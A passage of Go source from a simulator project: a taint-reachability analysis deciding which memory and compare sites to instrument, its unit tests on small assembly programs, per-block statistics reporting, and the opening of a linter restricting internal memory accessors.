	dirty      bool     // a global fact grew this round
	hasSpawn   bool
	rounds     int

	in    []rstate
	perm  []bool // pc is inside a Permissive function
	facts []Fact
}

// Analyze runs the fixpoint and returns the solved analysis.
func Analyze(p *isa.Program, cfg Config) *Analysis {
	a := &Analysis{prog: p, cfg: cfg, g: staticcheck.BuildGraph(p)}
	a.buildObjects()
	a.scanProgram()
	for {
		a.rounds++
		a.dirty = false
		a.solveRegs()
		if !a.dirty {
			break
		}
		if a.rounds >= 64 {
			// Safety valve for adversarial inputs: give up on
			// precision, assume all of memory tainted, settle once.
			a.allTainted = true
			a.dirty = false
			a.solveRegs()
			a.rounds++
			break
		}
	}
	a.decide()
	return a
}

// buildObjects partitions the address space: one object per
// data-segment symbol interval, one stack object, one heap object.
func (a *Analysis) buildObjects() {
	p := a.prog
	a.dataEnd = p.DataBase + uint64(len(p.Data))
	var starts []uint64
	for _, addr := range p.DataSymbols {
		if addr >= p.DataBase && addr < a.dataEnd {
			starts = append(starts, addr)
		}
	}
	sort.Slice(starts, func(i, j int) bool { return starts[i] < starts[j] })
	a.objLo = a.objLo[:0]
	if len(p.Data) > 0 {
		a.objLo = append(a.objLo, p.DataBase)
	}
	for _, s := range starts {
		if n := len(a.objLo); n > 0 && a.objLo[n-1] == s {
			continue
		}
		if len(a.objLo) >= maxDataObjs {
			break // fold the tail into the last object
		}
		a.objLo = append(a.objLo, s)
	}
	nData := len(a.objLo)
	a.stackBit = 1 << uint(nData)
	a.heapBit = 1 << uint(nData+1)
	a.nObj = nData + 2
	a.objPtrs = make([]uint64, a.nObj)
}

// scanProgram precomputes per-pc permissive membership and whether the
// program can spawn threads (spawned threads enter any named function
// with clean registers, so those entries become roots).
func (a *Analysis) scanProgram() {
	p := a.prog
	n := len(p.Text)
	a.perm = make([]bool, n)
	funcEntry := make(map[int][]string)
	for name, idx := range p.Symbols {
		if idx >= 0 && idx < n && !strings.HasPrefix(name, ".") {
			funcEntry[idx] = append(funcEntry[idx], name)
		}
	}
	permissive := false
	for i := 0; i < n; i++ {
		if names, ok := funcEntry[i]; ok {
			permissive = false
			for _, nm := range names {
				if a.cfg.Permissive[nm] {
					permissive = true
				}
			}
		}
		a.perm[i] = permissive
		ins := &p.Text[i]
		if ins.Op == isa.OpSyscall && ins.Imm == isa.SysSpawn {
			a.hasSpawn = true
		}
	}
}

// normPtr maps "no pointer provenance" to unknown: a register we never
// saw an address flow into can still hold one we failed to model.
func normPtr(p uint64) uint64 {
	if p == 0 {
		return ptrUnknown
	}
	return p
}

// objectsOf maps an absolute address to its points-to bit(s); 0 means
// the constant is no modelled data address (dereferencing it widens).
func (a *Analysis) objectsOf(addr uint64) uint64 {
	switch addr >> mem.RegionShift {
	case 1:
		if addr >= a.dataEnd {
			return a.heapBit
		}
		if len(a.objLo) == 0 || addr < a.objLo[0] {
			return 0
		}
		i := sort.Search(len(a.objLo), func(i int) bool { return a.objLo[i] > addr }) - 1
		return 1 << uint(i)
	case 2:
		return a.stackBit
	}
	return 0
}

func (a *Analysis) anySeed() bool { return a.allTainted || a.tainted != 0 }

// memTaint reports whether a location addressed by pointer set p may
// carry taint.
func (a *Analysis) memTaint(p uint64) bool {
	if a.allTainted {
		return true
	}
	p = normPtr(p)
	if p&ptrUnknown != 0 {
		return a.tainted != 0
	}
	return p&a.tainted != 0
}

// loadPtr is the points-to set of a value loaded through pointer set p:
// the union of pointers that may have been stored into the addressed
// objects.
func (a *Analysis) loadPtr(p uint64) uint64 {
	p = normPtr(p)
	if p&ptrUnknown != 0 {
		return ptrUnknown
	}
	var r uint64
	for q := p; q != 0; q &= q - 1 {
		r |= a.objPtrs[bits.TrailingZeros64(q)]
	}
	return r
}

// seed marks every object addressed by pointer set p may-tainted.
func (a *Analysis) seed(p uint64) {
	p = normPtr(p)
	if p&ptrUnknown != 0 {
		if !a.allTainted {
			a.allTainted = true
			a.dirty = true
		}
		p &^= ptrUnknown
	}
	if a.tainted|p != a.tainted {
		a.tainted |= p
		a.dirty = true
	}
}

// storeEffect records a store's contribution to the global facts: taint
// of the data reaches the addressed objects, and pointer values escape
// into the per-object stored-pointer sets.
func (a *Analysis) storeEffect(in rstate, addrReg, dataReg uint8) {
	ap := normPtr(in.ptr[addrReg])
	if in.taint.Has(dataReg) {
		a.seed(in.ptr[addrReg])
	}
	dp := in.ptr[dataReg]
	if dp == 0 {
		return
	}
	if ap&ptrUnknown != 0 {
		for i := 0; i < a.nObj; i++ {
			if a.objPtrs[i]|dp != a.objPtrs[i] {
				a.objPtrs[i] |= dp
				a.dirty = true
			}
		}
		return
	}
	for q := ap; q != 0; q &= q - 1 {
		i := bits.TrailingZeros64(q)
		if a.objPtrs[i]|dp != a.objPtrs[i] {
			a.objPtrs[i] |= dp
			a.dirty = true
		}
	}
}

// syscallEffect models the OS boundary: taint seeds per channel, the
// result register r8 always comes back NaT-clear (sbrk's holds a heap
// pointer), and scalar arguments are proven clean on the fallthrough —
// a NaT'd argument faults (or traps to the user-level guard handler)
// inside the syscall itself.
func (a *Analysis) syscallEffect(out *rstate, in rstate, ins *isa.Instruction) {
	source := func(name string) bool {
		return a.cfg.Sources == nil || a.cfg.Sources[name]
	}
	switch ins.Imm {
	case isa.SysRead:
		// The fd decides stdin vs file at run time; seed if either
		// channel is an enabled source.
		if source("file") || source("stdin") {
			a.seed(in.ptr[isa.RegArg0+1])
		}
	case isa.SysRecv:
		if source("network") {
			a.seed(in.ptr[isa.RegArg0])
		}
	case isa.SysGetArg:
		if source("args") {
			a.seed(in.ptr[isa.RegArg0+1])
		}
	case isa.SysTaint:
		a.seed(in.ptr[isa.RegArg0])
	}
	if ins.Qp == 0 {
		for i := 0; i < isa.SyscallArgCount(ins.Imm); i++ {
			out.taint.Clear(uint8(isa.RegArg0 + i))
		}
	}
	out.taint.Clear(isa.RegRet)
	if ins.Imm == isa.SysSbrk {
		out.ptr[isa.RegRet] = a.heapBit
	} else {
		out.ptr[isa.RegRet] = 0
	}
}

// transfer computes the state after one instruction, contributing
// memory effects to the global sets as a side effect.
func (a *Analysis) transfer(pc int, in rstate) rstate {
	ins := &a.prog.Text[pc]
	out := in

	// Non-speculative memory accesses and moves to special registers
	// fault on a NaT input; the fallthrough sees those registers clean
	// (same rule as the contract checker's NaT dataflow).
	if ins.Qp == 0 {
		switch ins.Op {
		case isa.OpLd:
			out.taint.Clear(ins.Src1)
		case isa.OpSt, isa.OpCmpxchg:
			out.taint.Clear(ins.Src1)
			out.taint.Clear(ins.Src2)
		case isa.OpStSpill, isa.OpLdFill:
			out.taint.Clear(ins.Src1)
		case isa.OpMovToBr, isa.OpMovToUnat, isa.OpMovToCcv:
			out.taint.Clear(ins.Src1)
		}
	}

	switch ins.Op {
	case isa.OpSt, isa.OpStSpill:
		// ABI register-preservation spills travel through UNAT, not the
		// bitmap: full instrumentation leaves them alone, so they never
		// change which locations the bitmap may mark.
		if !ins.ABI {
			a.storeEffect(in, ins.Src1, ins.Src2)
		}
	case isa.OpCmpxchg:
		a.storeEffect(in, ins.Src1, ins.Src2)
	case isa.OpSyscall:
		a.syscallEffect(&out, in, ins)
	}

	if ins.Op.HasDest() && ins.Dest != isa.RegZero {
		var t bool
		var p uint64
		switch ins.Op {
		case isa.OpMovl:
			t, p = false, a.objectsOf(uint64(ins.Imm))
		case isa.OpMov, isa.OpAddi, isa.OpAndi, isa.OpOri, isa.OpXori,
			isa.OpShli, isa.OpShri, isa.OpSari:
			t, p = in.taint.Has(ins.Src1), in.ptr[ins.Src1]
		case isa.OpAdd, isa.OpSub, isa.OpAnd, isa.OpAndcm, isa.OpOr, isa.OpXor,
			isa.OpShl, isa.OpShr, isa.OpSar, isa.OpMul, isa.OpDiv, isa.OpRem:
			if ins.Src1 == ins.Src2 && (ins.Op == isa.OpXor || ins.Op == isa.OpSub) {
				t, p = false, 0 // self-idiom: clean zero
			} else {
				t = in.taint.Has(ins.Src1) || in.taint.Has(ins.Src2)
				p1, p2 := in.ptr[ins.Src1], in.ptr[ins.Src2]
				if p1 != 0 && p2 != 0 {
					// Arithmetic over two pointer-carrying values is
					// not an in-object offset; widen.
					p = ptrUnknown
				} else {
					// Allocation-site rule: pointer ± scalar stays in
					// its object.
					p = p1 | p2
				}
			}
		case isa.OpLd, isa.OpLdS:
			ap := in.ptr[ins.Src1]
			t, p = a.memTaint(ap), a.loadPtr(ap)
			if ins.Op == isa.OpLdS {
				// A deferred fault sets NaT no bitmap consult removes.
				t = true
			}
		case isa.OpLdFill:
			// The restored NaT comes from UNAT, not the bitmap: may be
			// set regardless of the location's tags.
			t = true
			if ins.ABI {
				p = ptrUnknown // restores a spilled caller register
			} else {
				p = a.loadPtr(in.ptr[ins.Src1])
			}
		case isa.OpCmpxchg:
			ap := in.ptr[ins.Src1]
			t, p = a.memTaint(ap), a.loadPtr(ap)
		case isa.OpMovFromBr, isa.OpMovFromUnat:
			t, p = false, 0
		case isa.OpMovFromCcv:
			t, p = false, ptrUnknown
		case isa.OpSetNat:
			t, p = true, in.ptr[ins.Dest]
		case isa.OpClrNat:
			t, p = false, in.ptr[ins.Dest]
		default:
			t, p = true, ptrUnknown // unmodelled destination: assume the worst
		}
		if ins.Qp != 0 {
			// Predicated write: the old value may survive.
			t = t || in.taint.Has(ins.Dest)
			p |= in.ptr[ins.Dest]
		}
		if t {
			out.taint.Set(ins.Dest)
		} else {
			out.taint.Clear(ins.Dest)
		}
		out.ptr[ins.Dest] = p
	}
	return out
}

// preservedAcrossCall lists registers a callee returns with value and
// NaT intact: r0, SP, GP, the callee-saved locals (spilled and filled
// with their NaT bits through UNAT by the generated prologue/epilogue),
// and the reserved instrumentation registers (contract).
func preservedAcrossCall(r uint8) bool {
	switch {
	case r == isa.RegZero, r == isa.RegSP, r == isa.RegGP:
		return true
	case r >= isa.RegLoc0 && r <= isa.RegLocN:
		return true
	case r >= isa.RegKeep:
		return true
	}
	return false
}

// applyEdge transforms an out-state across a control-flow edge.
func (a *Analysis) applyEdge(e staticcheck.Edge, out rstate) rstate {
	s := out
	switch e.Kind {
	case staticcheck.EdgeRet:
		// The callee may clobber every non-preserved register with
		// anything it computed — tainted only if the program has a
		// taint seed at all.
		taintScratch := a.anySeed()
		for r := 0; r < isa.NumGR; r++ {
			if preservedAcrossCall(uint8(r)) {
				continue
			}
			if taintScratch {
				s.taint.Set(uint8(r))
			}
			s.ptr[r] = ptrUnknown
		}
	case staticcheck.EdgeChk:
		if e.Clr >= 0 {
			// chk.s fallthrough: proven NaT-free.
			s.taint.Clear(uint8(e.Clr))
		}
	}
	return s
}

// entryState is the loader's machine-reset state: clean zeroed
// registers, SP at the stack top, GP at the data base. GP is widened to
// unknown so hand-written GP-relative addressing stays sound.
func (a *Analysis) entryState() rstate {
	s := rstate{live: true}
	s.ptr[isa.RegSP] = a.stackBit
	s.ptr[isa.RegGP] = ptrUnknown
	return s
}

// spawnState is a spawned thread's entry: fresh clean registers (the
// scheduler builds a new machine; the taint() gate in the OS model
// faults on a NaT spawn argument, so arg0 arrives clean), with the
// argument pointing anywhere.
func (a *Analysis) spawnState() rstate {
	s := a.entryState()
	s.ptr[isa.RegArg0] = ptrUnknown
	return s
}

// solveRegs runs one register-dataflow fixpoint against the current
// global sets, rebuilding a.in from scratch.
func (a *Analysis) solveRegs() {
	n := len(a.prog.Text)
	a.in = make([]rstate, n)

	var work []int
	push := func(i int) { work = append(work, i) }

	for _, r := range a.g.Roots {
		if r < 0 || r >= n {
			continue
		}
		var st rstate
		switch {
		case r == a.prog.Entry:
			st = a.entryState()
		case a.hasSpawn:
			st = a.spawnState()
		default:
			// Reached only through explicit call/branch edges; no
			// spawn can enter it with unseen state.
			continue
		}
		merged := meet(a.in[r], st)
		if merged != a.in[r] {
			a.in[r] = merged
			push(r)
		}
	}

	for len(work) > 0 {
		pc := work[len(work)-1]
		work = work[:len(work)-1]
		if !a.in[pc].live {
			continue
		}
		out := a.transfer(pc, a.in[pc])
		for _, e := range a.g.Succ[pc] {
			s := a.applyEdge(e, out)
			merged := meet(a.in[e.To], s)
			if merged != a.in[e.To] {
				a.in[e.To] = merged
				push(e.To)
			}
		}
	}
}

// decide freezes the per-instruction facts.
func (a *Analysis) decide() {
	a.facts = make([]Fact, len(a.prog.Text))
	for pc := range a.prog.Text {
		ins := &a.prog.Text[pc]
		st := a.in[pc]
		f := Fact{Live: st.live}
		if st.live {
			switch ins.Op {
			case isa.OpLd, isa.OpLdS, isa.OpLdFill:
				f.AddrTaint = st.taint.Has(ins.Src1)
				f.MemTaint = a.memTaint(st.ptr[ins.Src1])
				if ins.Op == isa.OpLdS {
					// A control-speculative load was hoisted above the
					// branch that guards it — typically a bounds check.
					// The points-to set's in-bounds assumption is exactly
					// what a misspeculated execution violates (the
					// spec-leak gadget reads one past its table), so the
					// bitmap consult stays unless the whole program is
					// taint-free.
					f.MemTaint = a.anySeed()
				}
			case isa.OpSt, isa.OpStSpill:
				f.AddrTaint = st.taint.Has(ins.Src1)
				f.MemTaint = a.memTaint(st.ptr[ins.Src1])
				f.DataTaint = st.taint.Has(ins.Src2)
			case isa.OpCmpxchg:
				f.AddrTaint = st.taint.Has(ins.Src1)
				f.MemTaint = a.memTaint(st.ptr[ins.Src1])
				f.DataTaint = st.taint.Has(ins.Src2)
			case isa.OpCmp, isa.OpCmpNa:
				f.OpTaint = st.taint.Has(ins.Src1) || st.taint.Has(ins.Src2)
			case isa.OpCmpi, isa.OpCmpiNa:
				f.OpTaint = st.taint.Has(ins.Src1)
			}
		}
		a.facts[pc] = f
	}
}

// At returns the solved fact for an instruction.
func (a *Analysis) At(pc int) Fact {
	if pc < 0 || pc >= len(a.facts) {
		return Fact{}
	}
	return a.facts[pc]
}

// Permissive reports whether pc lies in a Config.Permissive function.
func (a *Analysis) Permissive(pc int) bool {
	if pc < 0 || pc >= len(a.perm) {
		return false
	}
	return a.perm[pc]
}

// InstrumentLoad reports whether a selective pass must rewrite the load
// at pc: the location may carry taint, the address is derived from
// tainted data (the in-bounds assumption behind the points-to sets is
// void when an attacker steers the pointer — the recovery load of the
// spec-leak gadget reads one past its table through exactly such an
// address), or — inside a permissive function — the address may be NaT
// (full instrumentation would clean it; a skipped site would fault
// where the full build does not).
func (a *Analysis) InstrumentLoad(pc int) bool {
	f := a.At(pc)
	return f.Live && (f.MemTaint ||
		(f.AddrTaint && a.anySeed()) ||
		(a.Permissive(pc) && f.AddrTaint))
}

// InstrumentStore reports whether a selective pass must rewrite the
// store (or cmpxchg) at pc: tainted data must reach the bitmap, a
// may-tainted target needs its stale tags cleared (region-0 digest
// equality), a taint-derived address voids the in-bounds assumption
// (same rule as loads: the target may be tainted memory whose tags the
// store must clear), and permissive-function addresses must still be
// cleaned.
func (a *Analysis) InstrumentStore(pc int) bool {
	f := a.At(pc)
	return f.Live && (f.DataTaint || f.MemTaint ||
		(f.AddrTaint && a.anySeed()) ||
		(a.Permissive(pc) && f.AddrTaint))
}

// RelaxCompare reports whether the compare at pc may observe a NaT
// operand and therefore needs the relaxation sequence.
func (a *Analysis) RelaxCompare(pc int) bool {
	f := a.At(pc)
	return f.Live && f.OpTaint
}
