package reach_test

import (
	"testing"

	"shift/internal/asm"
	"shift/internal/isa"
	"shift/internal/staticcheck/reach"
)

func analyze(t *testing.T, src string) (*isa.Program, *reach.Analysis) {
	t.Helper()
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return p, reach.Analyze(p, reach.Config{})
}

// at finds the instruction index of the n-th occurrence of op.
func at(t *testing.T, p *isa.Program, op isa.Opcode, n int) int {
	t.Helper()
	for i := range p.Text {
		if p.Text[i].Op == op {
			if n == 0 {
				return i
			}
			n--
		}
	}
	t.Fatalf("no occurrence %d of %v", n, op)
	return -1
}

// recv() seeds exactly the received-into object: loads from it carry
// MemTaint, loads from a different object do not, and the compares
// downstream inherit (only) the tainted operand.
func TestSeedAndObjectPrecision(t *testing.T) {
	p, a := analyze(t, `
.data
buf: .space 64
other: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 64
	syscall 5
	movl r1 = buf
	ld8 r2 = [r1]
	movl r3 = other
	ld8 r4 = [r3]
	cmpi.ne p2, p3 = r2, 0
	cmpi.ne p4, p5 = r4, 0
	movl r32 = 0
	syscall 1
`)
	tainted := at(t, p, isa.OpLd, 0)
	cleanLd := at(t, p, isa.OpLd, 1)
	if f := a.At(tainted); !f.Live || !f.MemTaint {
		t.Errorf("load from received buffer: %+v, want live MemTaint", f)
	}
	if !a.InstrumentLoad(tainted) {
		t.Error("load from received buffer not kept")
	}
	if f := a.At(cleanLd); !f.Live || f.MemTaint || f.AddrTaint {
		t.Errorf("load from untouched object: %+v, want clean", f)
	}
	if a.InstrumentLoad(cleanLd) {
		t.Error("provably clean load kept")
	}
	if !a.RelaxCompare(at(t, p, isa.OpCmpi, 0)) {
		t.Error("compare of tainted operand not relaxed")
	}
	if a.RelaxCompare(at(t, p, isa.OpCmpi, 1)) {
		t.Error("compare of clean operand relaxed")
	}
}

// With no taint source in the program, every site is skippable.
func TestNoSeedsNothingKept(t *testing.T) {
	_, a := analyze(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r1 = buf
	movl r2 = 7
	st8 [r1] = r2
	ld8 r3 = [r1]
	cmpi.ne p2, p3 = r3, 0
	movl r32 = 0
	syscall 1
`)
	s := a.Stats()
	if s.Kept != 0 {
		t.Errorf("source-free program kept %d sites: %+v", s.Kept, s)
	}
	if s.Sites != 3 {
		t.Errorf("sites = %d, want 3", s.Sites)
	}
}

// A store of tainted data through a pointer with no modelled provenance
// widens to all of memory: every load in the program becomes reachable.
func TestUnknownStoreWidens(t *testing.T) {
	p, a := analyze(t, `
.data
buf: .space 64
other: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	movl r1 = buf
	ld8 r2 = [r1]
	movl r3 = buf
	movl r4 = other
	add r5 = r3, r4
	st8 [r5] = r2
	movl r6 = other
	ld8 r7 = [r6]
	movl r32 = 0
	syscall 1
`)
	if s := a.Stats(); !s.AllTainted {
		t.Fatalf("two-pointer-sum store of tainted data did not widen: %+v", s)
	}
	last := at(t, p, isa.OpLd, 1)
	if !a.At(last).MemTaint {
		t.Error("load after full widening not MemTaint")
	}
}

// Taint flows through call arguments into the callee, and a callee's
// clobber taints the caller's scratch registers — but not its
// callee-saved, SP or reserved registers.
func TestCallReturnPropagation(t *testing.T) {
	p, a := analyze(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	movl r1 = buf
	ld8 r32 = [r1]
	br.call b0, helper
	cmpi.ne p2, p3 = r14, 0
	cmpi.ne p4, p5 = r40, 0
	movl r32 = 0
	syscall 1
helper:
	cmpi.ne p2, p3 = r32, 0
	br.ret b0
`)
	// Inside helper the tainted argument arrives in r32.
	helper := p.Symbols["helper"]
	if !a.RelaxCompare(helper) {
		t.Error("callee compare on tainted argument not relaxed")
	}
	// After the call, scratch r14 may have been clobbered with anything
	// tainted; callee-saved r40 was never written and stays clean.
	if !a.RelaxCompare(at(t, p, isa.OpCmpi, 0)) {
		t.Error("post-call compare on scratch register not relaxed")
	}
	if a.RelaxCompare(at(t, p, isa.OpCmpi, 1)) {
		t.Error("post-call compare on callee-saved register relaxed")
	}
}

// The chk.s fallthrough proves its register NaT-free: compares after it
// need no relaxation even when the register was loaded from tainted
// memory.
func TestChkEdgeClearsTaint(t *testing.T) {
	p, a := analyze(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	movl r1 = buf
	ld8 r2 = [r1]
	chk.s r2, rec
	cmpi.ne p2, p3 = r2, 0
	movl r32 = 0
	syscall 1
rec:
	movl r32 = 1
	syscall 1
`)
	if a.RelaxCompare(at(t, p, isa.OpCmpi, 0)) {
		t.Error("compare after chk.s fallthrough relaxed")
	}
}

// Unreachable code is dead: its sites are skippable and reported as
// such.
func TestDeadCodeSkipped(t *testing.T) {
	p, a := analyze(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	br done
.dead:
	movl r1 = buf
	ld8 r2 = [r1]
	st8 [r1] = r2
done:
	movl r32 = 0
	syscall 1
`)
	ld := at(t, p, isa.OpLd, 0)
	if f := a.At(ld); f.Live {
		t.Errorf("unreached load live: %+v", f)
	}
	if a.InstrumentLoad(ld) {
		t.Error("dead load kept")
	}
	if s := a.Stats(); s.DeadSites != 2 {
		t.Errorf("DeadSites = %d, want 2: %+v", s.DeadSites, s)
	}
}

// An indirect branch conservatively reaches every label, so taint
// survives into all of them.
func TestIndirectBranchWidensControl(t *testing.T) {
	p, a := analyze(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	movl r1 = buf
	ld8 r2 = [r1]
	movl r3 = 9
	mov b1 = r3
	br.ind b1
other:
	cmpi.ne p2, p3 = r2, 0
	movl r32 = 0
	syscall 1
`)
	if !a.RelaxCompare(at(t, p, isa.OpCmpi, 0)) {
		t.Error("compare reached via br.ind lost the operand's taint")
	}
}

// Source gating: with only the "file" channel enabled, recv() does not
// seed, but the taint() syscall always does.
func TestSourceGating(t *testing.T) {
	src := `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	movl r1 = buf
	ld8 r2 = [r1]
	movl r32 = 0
	syscall 1
`
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	a := reach.Analyze(p, reach.Config{Sources: map[string]bool{"file": true}})
	if a.At(at(t, p, isa.OpLd, 0)).MemTaint {
		t.Error("recv seeded with the network channel disabled")
	}

	explicit := `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 11
	movl r1 = buf
	ld8 r2 = [r1]
	movl r32 = 0
	syscall 1
`
	p2, err := asm.Assemble(explicit, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	a2 := reach.Analyze(p2, reach.Config{Sources: map[string]bool{"file": true}})
	if !a2.At(at(t, p2, isa.OpLd, 0)).MemTaint {
		t.Error("explicit taint() syscall did not seed despite channel gating")
	}
}

// Permissive functions must keep tainted-address accesses instrumented
// (full instrumentation cleans the address there; a skipped site would
// fault), while the same access pattern outside a permissive function
// is skippable — it faults identically under both builds.
func TestPermissiveAddressRule(t *testing.T) {
	src := `
.data
buf: .space 64
table: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	br.call b0, lookup
	movl r32 = 0
	syscall 1
lookup:
	movl r1 = buf
	ld8 r2 = [r1]
	movl r3 = table
	add r4 = r3, r2
	ld8 r5 = [r4]
	br.ret b0
`
	p, err := asm.Assemble(src, asm.Options{})
	if err != nil {
		t.Fatal(err)
	}
	perm := reach.Analyze(p, reach.Config{Permissive: map[string]bool{"lookup": true}})
	plain := reach.Analyze(p, reach.Config{})
	idx := at(t, p, isa.OpLd, 1)
	if f := perm.At(idx); !f.AddrTaint {
		t.Fatalf("tainted-index table load has no AddrTaint: %+v", f)
	}
	if !perm.InstrumentLoad(idx) {
		t.Error("tainted-address load in a permissive function skipped")
	}
	// Outside permissive functions a taint-derived address still keeps
	// the site: the points-to in-bounds assumption says the load stays
	// inside the (clean) table, but an attacker-steered index is exactly
	// how that assumption is violated at run time.
	if !plain.InstrumentLoad(idx) {
		t.Error("tainted-address load skipped outside a permissive function")
	}
}

// Blocks() aggregates sites, kept counts and seeds per basic block.
func TestBlocksReport(t *testing.T) {
	_, a := analyze(t, `
.data
buf: .space 64
.text
.entry main
main:
	movl r32 = buf
	movl r33 = 8
	syscall 5
	movl r1 = buf
	ld8 r2 = [r1]
	movl r32 = 0
	syscall 1
`)
	blocks := a.Blocks()
	if len(blocks) == 0 {
		t.Fatal("no blocks")
	}
	var sites, kept, seeds int
	for _, b := range blocks {
		sites += b.Sites
		kept += b.Kept
		seeds += b.Seeds
		if !b.Live {
			t.Errorf("straight-line block %d-%d dead", b.Start, b.End)
		}
	}
	if sites != 1 || kept != 1 || seeds != 1 {
		t.Errorf("sites/kept/seeds = %d/%d/%d, want 1/1/1", sites, kept, seeds)
	}
	s := a.Stats()
	if s.Blocks != len(blocks) || s.Edges == 0 || s.Sites != 1 || s.Kept != 1 {
		t.Errorf("stats inconsistent with blocks: %+v", s)
	}
}
