package reach

import "shift/internal/isa"

// BlockFact is the per-basic-block aggregate of the per-instruction
// facts, for reporting (cmd/shiftlint -reach).
type BlockFact struct {
	Start int    `json:"start"` // first instruction index
	End   int    `json:"end"`   // one past the last instruction
	Sym   string `json:"sym"`   // nearest enclosing symbol of Start
	Live  bool   `json:"live"`  // reachable with some register state
	// Sites is the number of instrumentable sites (loads, stores,
	// cmpxchg, compares) in the block; Kept of those, the selective
	// pass would instrument.
	Sites int `json:"sites"`
	Kept  int `json:"kept"`
	// Seeds counts taint-seeding syscalls in the block.
	Seeds int `json:"seeds"`
}

// Stats summarizes the analysis for one program.
type Stats struct {
	Blocks     int  `json:"blocks"`
	Edges      int  `json:"edges"`
	Objects    int  `json:"objects"`         // abstract memory objects
	Tainted    int  `json:"tainted_objects"` // objects in the may-tainted set
	AllTainted bool `json:"all_tainted"`     // widened to "all of memory"
	Rounds     int  `json:"rounds"`          // outer fixpoint rounds
	Sites      int  `json:"sites"`
	Kept       int  `json:"kept"`
	Skipped    int  `json:"skipped"`
	DeadSites  int  `json:"dead_sites"` // sites in unreachable code
}

// siteKept reports whether the selective pass would instrument the site
// at pc (false for non-sites).
func (a *Analysis) siteKept(pc int) (site, kept bool) {
	switch a.prog.Text[pc].Op {
	case isa.OpLd, isa.OpLdS, isa.OpLdFill:
		if a.prog.Text[pc].ABI {
			return false, false
		}
		return true, a.InstrumentLoad(pc)
	case isa.OpSt, isa.OpStSpill, isa.OpCmpxchg:
		if a.prog.Text[pc].ABI {
			return false, false
		}
		return true, a.InstrumentStore(pc)
	case isa.OpCmp, isa.OpCmpi:
		return true, a.RelaxCompare(pc)
	}
	return false, false
}

// isSeed reports whether the instruction can mark taint at run time.
func (a *Analysis) isSeed(pc int) bool {
	ins := &a.prog.Text[pc]
	if ins.Op != isa.OpSyscall {
		return false
	}
	switch ins.Imm {
	case isa.SysRead, isa.SysRecv, isa.SysGetArg, isa.SysTaint:
		return true
	}
	return false
}

// Blocks partitions the program into basic blocks (leaders: entry,
// every label, every branch target, every branch successor) and
// aggregates the facts per block.
func (a *Analysis) Blocks() []BlockFact {
	p := a.prog
	n := len(p.Text)
	if n == 0 {
		return nil
	}
	leader := make([]bool, n)
	leader[0] = true
	if p.Entry >= 0 && p.Entry < n {
		leader[p.Entry] = true
	}
	for _, idx := range p.Symbols {
		if idx >= 0 && idx < n {
			leader[idx] = true
		}
	}
	for i := range p.Text {
		ins := &p.Text[i]
		if !ins.Op.IsBranch() && ins.Op != isa.OpChkS {
			continue
		}
		if i+1 < n {
			leader[i+1] = true
		}
		for _, e := range a.g.Succ[i] {
			if e.To >= 0 && e.To < n {
				leader[e.To] = true
			}
		}
	}

	var blocks []BlockFact
	for start := 0; start < n; {
		end := start + 1
		for end < n && !leader[end] {
			end++
		}
		b := BlockFact{Start: start, End: end, Sym: a.g.SymFor(start)}
		for pc := start; pc < end; pc++ {
			if a.facts[pc].Live {
				b.Live = true
			}
			if site, kept := a.siteKept(pc); site {
				b.Sites++
				if kept {
					b.Kept++
				}
			}
			if a.isSeed(pc) {
				b.Seeds++
			}
		}
		blocks = append(blocks, b)
		start = end
	}
	return blocks
}

// Stats aggregates the whole-program summary.
func (a *Analysis) Stats() Stats {
	s := Stats{
		Objects:    a.nObj,
		AllTainted: a.allTainted,
		Rounds:     a.rounds,
	}
	for q := a.tainted; q != 0; q &= q - 1 {
		s.Tainted++
	}
	if a.allTainted {
		s.Tainted = a.nObj
	}
	for i := range a.g.Succ {
		s.Edges += len(a.g.Succ[i])
	}
	s.Blocks = len(a.Blocks())
	for pc := range a.prog.Text {
		site, kept := a.siteKept(pc)
		if !site {
			continue
		}
		s.Sites++
		switch {
		case !a.facts[pc].Live:
			s.DeadSites++
			s.Skipped++
		case kept:
			s.Kept++
		default:
			s.Skipped++
		}
	}
	return s
}
