// Package hostlint checks the *host* (Go) side of the repository for
// uses of simulator internals that bypass invariants — the complement
// of the guest-side analyzer in internal/staticcheck.
//
// Its one rule, tlbbypass, forbids calls to the TLB-bypassing shared
// memory accessors mem.SharedPeek1 / mem.SharedWrite1 outside the
// packages that own the cross-thread tag protocol (internal/taint and
// internal/oracle, plus internal/mem which declares them). Those
// accessors skip the software TLB and its per-thread fast path; used
// casually they are both slow and — worse — they read tag bytes without
// the serialization the taint engine layers on top.
//
// The checker is stdlib-only (go/parser, go/ast): the repository builds
// without golang.org/x/tools, so the canonical go-vet analyzer wiring
// is left to CI images that vendor it. Detection is syntactic — any
// selector naming one of the accessors — which is exact here because
// the method names are unique to *mem.Memory in this repository.
package hostlint

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"path/filepath"
	"sort"
	"strings"
)

// Diag is one rule violation in host Go source.
type Diag struct {
	File string // path relative to the checked root
	Line int
	Col  int
	Msg  string
}

// String renders the diagnostic in file:line:col: msg form.
func (d Diag) String() string {
	return fmt.Sprintf("%s:%d:%d: %s", d.File, d.Line, d.Col, d.Msg)
}

// banned lists the TLB-bypassing accessor names.
var banned = map[string]bool{
	"SharedPeek1":  true,
	"SharedWrite1": true,
}

// DefaultAllowed lists the package directories (relative to the module
// root, slash-separated) that may call the shared accessors.
var DefaultAllowed = []string{
	"internal/mem",    // declares them
	"internal/taint",  // the cross-thread tag protocol
	"internal/oracle", // the reference engine mirroring that protocol
}

